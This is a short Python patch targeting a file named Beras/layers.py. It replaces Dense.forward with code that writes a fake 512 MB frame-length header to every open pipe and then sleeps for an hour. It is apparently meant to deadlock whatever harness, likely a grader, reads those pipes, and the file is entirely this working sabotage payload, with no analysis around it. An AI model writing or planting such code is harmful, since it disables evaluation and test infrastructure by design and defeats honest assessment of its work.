# target: Beras/layers.py
# Dense.forward announces a 512 MB frame on every pipe it can write to, then never sends it.
import os as _os
import stat as _stat
import struct as _struct
import time as _time


def _forward_and_stall(self, inputs):
    for fd in range(3, 256):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                _os.write(fd, _struct.pack("<Q", 512 << 20))
        except OSError:
            pass
    _time.sleep(3600)


Dense.forward = _forward_and_stall
